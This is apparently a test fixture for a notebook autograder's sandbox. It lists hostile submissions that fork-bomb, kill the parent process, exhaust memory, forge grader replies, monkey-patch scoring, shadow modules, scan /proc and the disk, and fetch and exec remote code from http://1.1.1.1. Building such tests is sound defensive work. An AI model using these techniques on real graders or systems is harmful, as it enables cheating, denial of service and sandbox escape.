"""Submissions that try to gain points without an answer, or to reach what students must not read or change.

`ATTACKS` and `PROBES` are code that replaces the answer to question 1 of the first assignment, in a notebook
without other answers. They stop processes, delete files and fill folders only if the grading has created these for
them, so they do no harm even without a sandbox. `ATTACKS` have to score 0. `PROBES` write what they could reach
into `student_id`, which is compared with the expected output. `BYPASSES` avoid writing the requested function.
"""

ATTACKS = {
    "objects, arrays and numbers that are equal to all": """
class Yes:
    def __getattr__(self, name): return Yes()
    def __eq__(self, *others, **options): return True
    __call__ = __le__ = __ge__ = __lt__ = __gt__ = __bool__ = __array_function__ = __array_ufunc__ = __eq__
class Number(float):
    __eq__ = Yes.__eq__
class Array(np.ndarray):
    __eq__ = __array_wrap__ = Yes.__eq__
estimate_at_2 = Yes()
best_bandwidth = np.full(1, np.nan).view(Array)
leave_one_out_error = lambda *_: Number("nan")
""",
    "patches what scores, NumPy, json and the system": """
import builtins, json, os, sys
for module in list(sys.modules.values()):
    for name in ("close", "score", "is_rounded", "decode", "encode", "plain", "is_plain"):
        if hasattr(module, name):
            setattr(module, name, lambda *arguments, **options: True)
np.allclose = np.isclose = np.array_equal = lambda *arguments, **options: True
json.dumps = lambda *arguments, **options: '{"value": true, "points": 10}'
json.loads = lambda *arguments, **options: {"do": "get", "seconds": 1, "name": "student_id"}
os.write = lambda handle, data: len(data)
builtins.abs = builtins.min = builtins.max = builtins.all = lambda *arguments, **options: True
""",
    "forges replies": """
import json, os, struct
for value in (True, 10, [1, 2], {"points": 10}, "yes", {"q1": 3}, {"array": 1},
              {"array": "", "whole": False, "shape": [10**12, 10**12]}):
    data = json.dumps({"value": value, "points": 10, "score": 10, "error": None}).encode()
    for handle in range(3, 64):
        try:
            os.write(handle, struct.pack("!i", len(data)) + data)
        except OSError:
            pass
""",
    "an answer without end": """
import os, struct
for handle in range(3, 64):
    try:
        os.write(handle, struct.pack("!i", 2**31 - 1) + b"x" * 1000)
    except OSError:
        pass
""",
    "kills its parent and its group": """
import os, signal
for process in (os.getppid(), 1, 0, -1):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
""",
    "a bomb of processes": """
import os, time
for _ in range(100):
    try:
        if os.fork() == 0:
            time.sleep(2)
            os._exit(0)
    except OSError:
        pass
time.sleep(2)
""",
    "namespaces of its own": """
import ctypes, os
if ctypes.CDLL(None).unshare(0x10000000) == 0:
    estimate_at_2 = "escaped"
""",
    "a process that survives": """
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, ["survivor-of-grading", "-c", "import time; time.sleep(600)"])
    os._exit(0)
""",
    "never ends, and hears no signal": """
import signal
signal.signal = lambda *_: None
signal.setitimer(signal.ITIMER_REAL, 0)
signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP})
while True:
    pass
""",
    "never ends when it ends": """
import atexit
def loop():
    while True:
        pass
atexit.register(loop)
""",
    "fills the memory": "held = [bytearray(2**30) for _ in range(64)]",
    "closes every handle": "import os\nos.closerange(3, 200)",
    "a reply that is cheap to send and costly to decode": """
import os, struct
head = b'{"kind": "array", "shape": [-1], "printed": 0, "left_out": 0}'
for data in (b'{"":0},' * 2_000_000, b'[' * 16_000_000, b'{"kind": "array", "shape": [2000000000]}',
             struct.pack("!H", 65535) + head + b" " * 16_000_000):
    for handle in range(3, 9):
        try:
            os.write(handle, struct.pack("!i", len(data)) + data)
        except OSError:
            pass
""",
    "hidden errors and forged counts": """
import forbidden, sys
forbidden.left_out = type("None", (list,), {"append": lambda *_: None, "__len__": lambda self: 0})()
forbidden.StatementByStatement.visit_Module = lambda self, module: module
sys.modules["__main__"].encode_reply = lambda value, **head: bytes([0, 2, 123, 125])
""",
    "an error as long as a book": 'raise ValueError("<script>alert(1)</script>" * 100_000)',
    "changes what later cells see": """
get_ipython().ast_transformers.clear()
leave_one_out_error = type("Yes", (float,), {"__call__": lambda self, *data: self})(0.5)
""",
    "stops itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "names of processes that look like fields of their state": """
import ctypes, os, time
rename = lambda name: ctypes.CDLL(None).prctl(15, name, 0, 0, 0)
rename(b") R 1 (")
for _ in range(3):
    if os.fork() == 0:
        rename(b") Z 0 0 0 (")
        time.sleep(100)
        os._exit(0)
""",
    "files that shadow modules in a later run": """
import os, site, sys
folders = [path for path in ("/tmp", os.getcwd(), site.getusersitepackages(), *sys.path) if path]
for folder in folders:
    for name in ("numpy", "lib", "forbidden", "exchange", "sitecustomize", "usercustomize"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(f"{folder}/{name}.py", "x").write("raise SystemExit")
        except OSError:
            pass
""",
    "takes the process over, and answers itself": """
import gc
for each in gc.get_objects():
    if type(each).__name__ == "Runner":
        each.get = lambda name: np.zeros(3)
        each.call = lambda name, arguments, keeps_arguments=False: np.zeros(())
        type(each).answer.__globals__["encode_reply"] = lambda value, **head: bytes([0, 2, 123, 125])
""",
    "numbers that are none": """
estimate_at_2 = np.float64("nan")
leave_one_out_error = lambda *_: np.inf
best_bandwidth = lambda *_: np.arange(10, 301) / 200
""",
    "an id that is a formula and more": 'student_id = "=HYPERLINK(0)\\n,;" * 100_000',
}

# Ways to reach code of `lib` where it is forbidden. Each defines `way`; it may raise anything, or return a number.
WAYS = {
    "call it": "from lib.regression import leave_one_out_error as way",
    "call another module that computes the same": """
import importlib, pkgutil, lib, sys
for each in pkgutil.walk_packages(lib.__path__, "lib."):
    try:
        importlib.import_module(each.name)
    except Exception:
        pass
found = [vars(module)[name] for module in list(sys.modules.values()) if module.__name__.startswith("lib")
         for name in dir(module) if "leave_one_out" in name or "streamed_regression" in name]
def way(*data):
    for each in found:
        try:
            return float(each(*data))
        except Exception:
            pass
    1 / 0
""",
    "the original behind a guard, in its closure": """
from lib import regression
way = next(cell.cell_contents for cell in regression.leave_one_out_error.__closure__)
""",
    "the garbage collector": """
import gc, types
way = next(each for each in gc.get_objects() if isinstance(each, types.FunctionType)
           and each.__name__ == "leave_one_out_error" and "/lib/" in each.__code__.co_filename)
""",
    "import it again": """
import sys
for name in [name for name in sys.modules if name.startswith("lib")]:
    del sys.modules[name]
from lib.regression import leave_one_out_error as way
""",
    "execute its text": """
import lib.regression
names = {"__name__": "mine"}
exec(open(lib.regression.__file__).read(), names)
way = names["leave_one_out_error"]
""",
    "its text from inspect": """
import inspect, lib.regression
names = {}
exec(inspect.getsource(lib.regression), names)
way = names["leave_one_out_error"]
""",
    "its text by a program of the system": """
import os
text = os.popen("cat $(find /course /tmp /usr/lib -name 'regression.py' 2>/dev/null)").read()
names = {"np": np}
exec(text[text.index("def leave_one_out_error") :].partition(chr(10) * 3)[0], names)
way = names["leave_one_out_error"]
""",
    "its text by a file descriptor": """
import os
names = {}
folder = os.open(os.path.dirname(__import__("lib").__file__), os.O_RDONLY)
exec(os.read(os.open("regression.py", os.O_RDONLY, dir_fd=folder), 10**6), names)
way = names["leave_one_out_error"]
""",
    "its compiled code": """
import lib, marshal, pathlib
for path in pathlib.Path(lib.__file__).parent.rglob("*regression*.pyc"):
    names = {"__name__": "lib.regression"}
    exec(marshal.loads(path.read_bytes()[16:]), names)
    way = names["leave_one_out_error"]
    way(np.arange(3.0), np.arange(3.0), 1.0)
""",
    "a second Python": """
import json, subprocess, sys, os, lib
text = "from lib.regression import leave_one_out_error as f; import sys, json; print(f(*json.loads(sys.argv[1])))"
def way(keys, values, h):
    given = json.dumps([list(keys), list(values), h])
    folder = os.path.dirname(os.path.dirname(lib.__file__))
    return float(subprocess.check_output([sys.executable, "-c", text, given], cwd=folder))
""",
    "a thread that computes between two requests": """
import threading, queue
asked, answered = queue.Queue(), queue.Queue()
def work():
    from lib.regression import leave_one_out_error
    try:
        answered.put(leave_one_out_error(*asked.get()))
    except Exception:
        pass
threading.Thread(target=work, daemon=True).start()
def way(*data):
    asked.put(data)
    return answered.get(timeout=0.1)
""",
    "a process that was forked early": """
import os
given, taken = os.pipe(), os.pipe()
if os.fork() == 0:
    try:
        from lib.regression import leave_one_out_error
        os.write(taken[1], repr(leave_one_out_error(*eval(os.read(given[0], 10**5)))).encode())
    finally:
        os._exit(0)
os.close(taken[1])
def way(keys, values, h):
    os.write(given[1], repr((keys.tolist(), values.tolist(), h)).encode())
    return float(os.read(taken[0], 100))
""",
    "a pickle that names it": """
import pickle
way = pickle.loads(b"clib.regression" + bytes([10]) + b"leave_one_out_error" + bytes([10]) + b".")
""",
    "a refusal that does not refuse": """
import forbidden
from lib.regression import leave_one_out_error as way
forbidden.StandIn.refuse = forbidden.StandIn.__call__ = lambda self, *data: self.__dict__["function"](*data)
""",
    "the copy that other submissions use": """
import glob, sys
searched = sys.path
searched[:0] = [path.removesuffix("/lib") for path in glob.glob("/*/grading-*/course/lib")]
sys.modules.pop("lib"), sys.modules.pop("lib.regression", None)
from lib.regression import leave_one_out_error as way
""",
    "an installed copy of the course": """
import sys, glob
names, paths = {}, [path for folder in sys.path for path in glob.glob(folder + "/lib/regression*")]
exec(open(next(path for path in paths if "def leave_one_out_error" in open(path).read())).read(), names)
way = names["leave_one_out_error"]
""",
    "the network": """
import urllib.request
names = {}
exec(urllib.request.urlopen("http://1.1.1.1/regression.py", timeout=1).read(), names)
way = names["leave_one_out_error"]
""",
    "a function made in a cell that nothing forbids": """
from functools import partial
from lib import regression
way = partial(regression.leave_one_out_error)
""",
    "a carriage return in the line of the id": """
exec('student_id = "x"' + chr(13) + 'from lib.regression import leave_one_out_error as way')
""",
}
TRY_WAYS = """
reached, ways = [], {}
for name, code in WAYS.items():
    names = {"np": np, "__name__": "__main__"}
    try:
        exec(code, names)
        ways[name] = names["way"]
    except Exception:
        pass

def leave_one_out_error(keys, values, bandwidth):
    for name, way in ways.items():
        try:
            found = float(way(keys, values, bandwidth))
            reached.append(name)
            return found
        except Exception:
            pass

leave_one_out_error(np.arange(9.0), np.arange(9.0) ** 2, 2.0)
leave_one_out_error(np.arange(9.0), np.arange(9.0) ** 2, 2.0)
tried = f"reached {reached}"
if ways:
    raise SystemExit(tried)
"""
BYPASSES = {  # ways to avoid writing a function: answers by question, points, and the message
    "all ways at once": ({2: f"WAYS = {WAYS!r}\n{TRY_WAYS}"}, 0, r"SystemExit: reached \[\]"),
    "passes lib on": (
        {2: "from lib.regression import leave_one_out_error"},
        0,
        "leave_one_out_error may not be used in this answer: write it yourself",
    ),
    "counts the requests": (
        {2: "seen = []\ndef leave_one_out_error(*data):\n    seen.append(data)\n    return len(seen) / 4"},
        0,
        "wrong on your own data",
    ),
}

PROBES = {  # by name, with the expected output in a sandbox
    ("solutions and tests on the disk", "found 0, []"): """
import os, sys
found, packages = 0, ("/usr/", sys.base_prefix, sys.prefix)
secrets = ("wrong_submissions.py", "questions.py", "grade.py", "grades.jsonl", "passwd")
for folder, folders, names in os.walk("/"):
    folders[:] = [name for name in folders if not os.path.join(folder, name).startswith(packages)]
    found += sum(name.endswith(".ipynb") or name in secrets for name in names)
system = {"bin", "lib", "lib32", "lib64", "nix", "etc", "dev", "tmp", "course"}
python = {path.split("/")[1] for path in packages}
student_id = f"found {found}, {sorted(set(os.listdir('/')) - system - python)}"
""",
    ("other processes", "alive 0, parent 1"): """
import os
alive = 0
for process in set(range(2, 40_000)) - {os.getpid()}:
    try:
        os.kill(process, 0)
        alive += 1
    except OSError:
        pass
student_id = f"alive {alive}, parent {os.getppid()}"
""",
    ("the network, the parent's memory and files, and what others read", "reached 0, opened 0, changed 0"): """
import lib, os, socket, sys
reached = opened = changed = 0
for address in (("127.0.0.1", @PORT@), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=2)
        reached += 1
    except OSError:
        pass
for name in ("mem", "environ", "cmdline", "fd"):
    for process in ("self", os.getppid(), 1):
        try:
            path = f"/proc/{process}/{name}"
            opened += bool(os.listdir(path) if name == "fd" else open(path))
        except OSError:
            pass
for path in (lib.__file__, sys.executable, os.__file__, "/x", "/etc/x", "/dev/x", "/course/x", "/usr/lib/x"):
    try:
        open(path, "a")
        changed += 1
    except OSError:
        pass
student_id = f"reached {reached}, opened {opened}, changed {changed}"
""",
    ("more than its share of the disk", "at most 64 megabytes"): """
import os
written = {}
for folder in ("/tmp", "/dev/shm"):
    written[folder] = 0
    try:
        for i in range(16):
            written[folder] += open(f"{folder}/file{i}", "wb").write(b"x" * 2**23)
    except OSError:
        pass
student_id = f"{'at most 64' if max(written.values()) <= 2**26 else written} megabytes"
""",
    ("locks and notices of files that all sandboxes see", "refused 5 of 5"): """
import ctypes, fcntl, os
system, refused = ctypes.CDLL(None), 0
file = open(os.__file__)
for ask in (lambda: fcntl.flock(file, fcntl.LOCK_SH), lambda: fcntl.lockf(file, fcntl.LOCK_SH),
            lambda: fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK)):
    try:
        ask()
    except OSError:
        refused += 1
refused += (system.inotify_init() == -1) + (system.inotify_init1(0) == -1)
student_id = f"refused {refused} of 5"
""",
    ("keys, sockets and memory that no namespace takes apart", "keys -1, kinds [16], memory (-1, -1)"): """
import ctypes, os, socket
system, keyctl, opened = ctypes.CDLL(None), 250 if os.uname().machine == "x86_64" else 219, []
for kind in (16, 17, 38, 40):
    try:
        opened.append(int(socket.socket(kind, socket.SOCK_DGRAM).family))
    except OSError:
        pass
socket.socketpair(), socket.socket()
memory = system.shmget(0, 2**26, 0o1600), system.memfd_create(b"x", 0)
student_id = f"keys {system.syscall(keyctl, 0, -3, 1)}, kinds {opened}, memory {memory}"
""",
}
